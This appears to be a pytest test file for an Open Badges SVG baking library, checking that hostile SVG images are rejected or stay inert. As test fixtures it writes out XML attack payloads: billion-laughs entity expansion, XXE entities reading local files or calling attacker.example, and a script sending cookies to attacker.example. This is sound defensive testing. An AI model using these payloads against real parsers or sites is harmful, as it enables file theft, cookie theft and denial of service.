"""Hostile SVG images: no entity is expanded, nothing is fetched or read, nothing is ambiguous."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from tests.unit.openbadges.baking_support import CREDENTIAL, JWT, svg_with

from vckit.errors import BakingError
from vckit.openbadges import baking

ENTITY_ERROR = r"^the SVG declares an XML entity; entities are refused \(entity expansion, external entities\)$"


@pytest.fixture(autouse=True)
def _offline(no_network: list[Any]) -> None:
    """Every test here runs with the network blocked; a fetch attempt would fail the test."""


def test_billion_laughs() -> None:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    image = svg_with(
        "<openbadges:credential>&lol9;</openbadges:credential>",
        prolog=f"<!DOCTYPE svg [{entities}]>",
    )
    with pytest.raises(BakingError, match=ENTITY_ERROR):
        baking.unbake(image)


def test_external_entity_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text('{"stolen": "SECRET-FILE-CONTENT"}')
    image = svg_with(
        "<openbadges:credential>&xxe;</openbadges:credential>",
        prolog=f'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>',
    )
    with pytest.raises(BakingError, match=ENTITY_ERROR) as info:
        baking.unbake(image)
    assert "SECRET" not in str(info.value)


def test_external_entity_http(no_network: list[Any]) -> None:
    image = svg_with(
        "<openbadges:credential>&xxe;</openbadges:credential>",
        prolog='<!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]>',
    )
    with pytest.raises(BakingError, match=ENTITY_ERROR):
        baking.unbake(image)
    assert no_network == []


def test_external_parameter_entity() -> None:
    image = svg_with(
        f'<openbadges:credential verify="{JWT}"/>',
        prolog='<!DOCTYPE svg [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]>',
    )
    with pytest.raises(BakingError, match=ENTITY_ERROR):
        baking.unbake(image)


def test_external_dtd_is_never_fetched(no_network: list[Any]) -> None:
    image = svg_with(
        f'<openbadges:credential verify="{JWT}"/>',
        prolog='<!DOCTYPE svg SYSTEM "http://attacker.example/svg.dtd">',
    )
    assert baking.unbake(image) == JWT
    assert no_network == []


def test_xinclude_outside_the_credential_is_not_processed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-FILE-CONTENT")
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" '
        'parse="text"/>'
    )
    image = svg_with(f'<openbadges:credential verify="{JWT}"/>{include}')
    assert baking.unbake(image) == JWT


def test_xinclude_inside_the_credential_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text('{"stolen": true}')
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" '
        'parse="text"/>'
    )
    image = svg_with(f"<openbadges:credential>{include}</openbadges:credential>")
    with pytest.raises(
        BakingError, match=r"^the Open Badges element must hold only text, not elements$"
    ):
        baking.unbake(image)


def test_script_element_does_not_matter() -> None:
    script = "<script>document.location='https://attacker.example/?'+document.cookie</script>"
    image = svg_with(script, ns='xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"')
    baked = baking.bake(image, CREDENTIAL)
    assert baking.unbake(baked) == CREDENTIAL  # only the credential is read, nothing is run
    assert baked.count(b"<script>") == 1  # the issuer's image is not rewritten


def test_script_element_inside_the_credential_is_refused() -> None:
    image = svg_with("<openbadges:credential><script>alert(1)</script></openbadges:credential>")
    with pytest.raises(BakingError, match="must hold only text, not elements"):
        baking.unbake(image)


def test_two_credential_elements() -> None:
    image = svg_with(
        f'<openbadges:credential verify="{JWT}"/><openbadges:credential verify="{JWT}"/>'
    )
    with pytest.raises(
        BakingError, match=r"^the SVG carries more than one openbadges:credential element$"
    ):
        baking.unbake(image)


def test_two_credential_elements_under_different_prefixes() -> None:
    image = svg_with(
        f'<openbadges:credential verify="{JWT}"/>'
        f'<g xmlns:x="https://purl.imsglobal.org/ob/v3p0"><x:credential verify="a.b.c"/></g>'
    )
    with pytest.raises(BakingError, match="more than one openbadges:credential element"):
        baking.unbake(image)


def test_namespace_prefix_spoofing() -> None:
    spoofed = svg_with(
        f'<openbadges:credential verify="{JWT}"/>',
        ns='xmlns:openbadges="https://evil.example/ob/v3p0"',
    )
    with pytest.raises(BakingError, match=r"^the SVG image carries no Open Badges credential$"):
        baking.unbake(spoofed)
    with pytest.raises(
        BakingError, match=r"binds the openbadges prefix to 'https://evil\.example/ob/v3p0'"
    ):
        baking.bake(spoofed, JWT)


def test_spoofed_element_beside_a_real_one_is_ignored() -> None:
    image = svg_with(
        f'<ob:credential verify="{JWT}"/>'
        '<g xmlns:openbadges="https://evil.example/"><openbadges:credential verify="x.y.z"/></g>',
        ns='xmlns:ob="https://purl.imsglobal.org/ob/v3p0"',
    )
    assert baking.unbake(image) == JWT


def test_oversized_svg() -> None:
    image = svg_with(" " * (baking.MAX_SVG_BYTES + 1))
    with pytest.raises(BakingError, match=r"^the SVG image is larger than 33554432 bytes$"):
        baking.unbake(image)


def test_oversized_credential_text() -> None:
    image = svg_with(
        "<openbadges:credential>"
        + "x" * (baking.MAX_CREDENTIAL_BYTES + 1)
        + "</openbadges:credential>"
    )
    with pytest.raises(BakingError, match=r"^the SVG credential is larger than 8388608 bytes$"):
        baking.unbake(image)


def test_invalid_utf8() -> None:
    image = svg_with('<openbadges:credential>{"a": "\xff"}</openbadges:credential>').replace(
        "\xff".encode(), b"\xff"
    )
    with pytest.raises(BakingError, match="the SVG is not well-formed XML"):
        baking.unbake(image)


def test_unknown_encoding_declaration() -> None:
    image = b'<?xml version="1.0" encoding="x-no-such-codec"?>' + svg_with(
        f'<openbadges:credential verify="{JWT}"/>'
    )
    with pytest.raises(BakingError, match=r"^the SVG could not be read: LookupError$"):
        baking.unbake(image)
